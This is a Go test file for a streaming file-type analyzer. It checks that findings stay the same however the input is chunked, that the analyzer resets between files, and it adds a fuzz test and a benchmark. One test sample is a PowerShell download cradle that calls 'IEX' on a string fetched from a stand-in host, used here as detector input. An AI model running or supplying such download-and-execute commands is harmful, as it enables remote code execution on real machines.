package filetype

import (
	"bytes"
	"math/rand/v2"
	"reflect"
	"testing"

	"athena/internal/core"
)

// pseudoRandom returns n bytes from a fixed-seed generator: high entropy,
// the same on every run.
func pseudoRandom(seed uint64, n int) []byte {
	rng := rand.New(rand.NewPCG(seed, seed))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rng.Uint32())
	}
	return b
}

// run analyses data fed in chunks of the given sizes (the last chunk takes
// whatever remains) and returns the findings.
func run(tb testing.TB, data []byte, sizes []int) []core.Finding {
	tb.Helper()
	var got []core.Finding
	a := New(func(f core.Finding) { got = append(got, f) })
	if err := a.Begin(core.FileMeta{Name: "sample", Size: int64(len(data))}); err != nil {
		tb.Fatal(err)
	}
	for _, n := range sizes {
		n = min(n, len(data))
		if n > 0 {
			if err := a.Feed(data[:n]); err != nil {
				tb.Fatal(err)
			}
		}
		data = data[n:]
	}
	if len(data) > 0 {
		if err := a.Feed(data); err != nil {
			tb.Fatal(err)
		}
	}
	if err := a.Finish(); err != nil {
		tb.Fatal(err)
	}
	return got
}

// ones returns n chunk sizes of 1.
func ones(n int) []int {
	s := make([]int, n)
	for i := range s {
		s[i] = 1
	}
	return s
}

// randomSizes returns chunk sizes in [1, maxChunk] covering n bytes.
func randomSizes(seed uint64, n, maxChunk int) []int {
	rng := rand.New(rand.NewPCG(seed, 0))
	var s []int
	for n > 0 {
		c := 1 + rng.IntN(maxChunk)
		s = append(s, c)
		n -= c
	}
	return s
}

func equalFindings(a, b []core.Finding) bool { return reflect.DeepEqual(a, b) }

func TestChunkingInvariance(t *testing.T) {
	// A file that exercises every event: a PowerShell head, high-entropy
	// regions that close mid-file and at the end, and a partial last block.
	mixed := bytes.Join([][]byte{
		lines(`$wc = New-Object System.Net.WebClient`, `IEX $wc.DownloadString("http://x.test")`),
		bytes.Repeat([]byte("A"), 3*BlockSize),
		pseudoRandom(2, 2*BlockSize+100),
		bytes.Repeat([]byte("\x00"), BlockSize),
		pseudoRandom(3, BlockSize+700),
	}, nil)
	samples := []struct {
		name string
		data []byte
	}{
		{name: "empty", data: nil},
		{name: "short text", data: []byte("hello world\n")},
		{name: "exactly one block", data: pseudoRandom(4, BlockSize)},
		{name: "pe", data: append(peSample(), pseudoRandom(5, 5*BlockSize)...)},
		{name: "mixed", data: mixed},
	}
	for _, s := range samples {
		t.Run(s.name, func(t *testing.T) {
			want := run(t, s.data, []int{len(s.data)})
			chunkings := map[string][]int{
				"1-byte":   ones(len(s.data)),
				"4095":     {HeadSize - 1, BlockSize - 1, 7},
				"block+1":  {BlockSize + 1, BlockSize + 1},
				"65536":    {65536},
				"random-7": randomSizes(7, len(s.data), 9000),
				"random-8": randomSizes(8, len(s.data), 300),
				"random-9": randomSizes(9, len(s.data), 70000),
			}
			for name, sizes := range chunkings {
				if got := run(t, s.data, sizes); !equalFindings(got, want) {
					t.Errorf("chunking %s: findings\n%+v\nwant (one chunk)\n%+v", name, got, want)
				}
			}
		})
	}
}

// Begin must reset everything: a second file on the same instance gives
// the same findings as on a fresh one.
func TestBeginResets(t *testing.T) {
	var got []core.Finding
	a := New(func(f core.Finding) { got = append(got, f) })
	analyse := func(data []byte) []core.Finding {
		got = nil
		if err := a.Begin(core.FileMeta{Size: -1}); err != nil {
			t.Fatal(err)
		}
		if err := a.Feed(data); err != nil {
			t.Fatal(err)
		}
		if err := a.Finish(); err != nil {
			t.Fatal(err)
		}
		return got
	}
	second := []byte("%PDF-1.4\n")
	analyse(append(lines("@echo off"), pseudoRandom(10, 3*BlockSize+5)...))
	if got, want := analyse(second), run(t, second, nil); !equalFindings(got, want) {
		t.Errorf("second file on a reused analyzer: %+v, want %+v", got, want)
	}
}

func FuzzAnalyze(f *testing.F) {
	f.Add([]byte("@echo off\r\nset a=1\r\n"), uint64(1))
	f.Add(peSample(), uint64(2))
	f.Add(append([]byte("%PDF-1.4\n"), pseudoRandom(1, 2*BlockSize+3)...), uint64(3))
	f.Fuzz(func(t *testing.T, data []byte, seed uint64) {
		want := run(t, data, []int{len(data)})
		maxChunk := 1 + int(seed%uint64(2*BlockSize))
		if got := run(t, data, randomSizes(seed, len(data), maxChunk)); !equalFindings(got, want) {
			t.Errorf("chunked findings\n%+v\nwant (one chunk)\n%+v", got, want)
		}
	})
}

func BenchmarkFeed(b *testing.B) {
	data := pseudoRandom(42, 1<<20)
	const chunk = 64 << 10
	a := New(func(core.Finding) {})
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		if err := a.Begin(core.FileMeta{Size: -1}); err != nil {
			b.Fatal(err)
		}
		for p := data; len(p) > 0; p = p[min(chunk, len(p)):] {
			if err := a.Feed(p[:min(chunk, len(p))]); err != nil {
				b.Fatal(err)
			}
		}
		if err := a.Finish(); err != nil {
			b.Fatal(err)
		}
	}
}
